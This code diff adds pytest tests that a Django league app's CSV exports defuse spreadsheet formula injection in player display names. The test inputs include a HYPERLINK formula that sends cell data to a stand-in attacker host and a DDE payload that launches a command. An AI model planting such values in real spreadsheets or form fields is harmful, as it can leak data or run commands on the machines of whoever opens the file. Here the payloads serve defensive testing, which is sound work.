@@ -364,3 +364,40 @@ def test_season_standings_and_results_export_as_csv(fake_game, django_capture_on
     assert [(row[0], row[2], row[3]) for row in results[1:]] == [("1", "finished", "0"), ("1", "finished", "1")]
     with pytest.raises(BadOptions):
         season_csv(season_id=season.pk, kind="ratings")
+
+
+@pytest.mark.parametrize(
+    "name",
+    ['=HYPERLINK("http://evil.example/?"&A1,"x")', "+cmd|' /C calc'!A0", "-2+3+cmd", "@SUM(1+1)", "\t=1", "\r=1"],
+)
+def test_a_name_that_would_start_a_formula_is_text_in_both_exports(fake_game, name, django_capture_on_commit_callbacks):
+    # given: a season whose first entrant chose a formula for a name (finding 8)
+    season, organizer, players = season_with_entrants(fake_game, entrants=2, options={"rounds": 1})
+    players[0].display_name = name
+    players[0].save(update_fields=["display_name"])
+    season = season_start(season=season, by=organizer)
+    for table in tables_in_play(season):
+        with django_capture_on_commit_callbacks(execute=True):
+            play_moves(table, random.Random(5))
+    # when: both exports are read as a spreadsheet reads them
+    standings = list(csv.reader(io.StringIO(season_csv(season_id=season.pk, kind="standings"))))
+    results = list(csv.reader(io.StringIO(season_csv(season_id=season.pk, kind="results"))))
+    cells = [cell for row in standings[1:] + results[1:] for cell in row]
+    # then: the name is there as text (an apostrophe first), and no cell starts a formula
+    assert "'" + name in cells
+    assert not [cell for cell in cells if cell[:1] in ("=", "+", "@", "\t", "\r")]
+    assert not [cell for cell in cells if cell.startswith("-") and not cell.lstrip("-").replace("/", "").isdigit()]
+
+
+def test_numbers_and_exact_fractions_stay_values() -> None:
+    from league.spreadsheet import cell_safe
+
+    assert [cell_safe(v) for v in (-3, "-3", "-1/2", "2.5", "+4", "=1", "-x")] == [
+        -3,
+        "-3",
+        "-1/2",
+        "2.5",
+        "+4",
+        "'=1",
+        "'-x",
+    ]
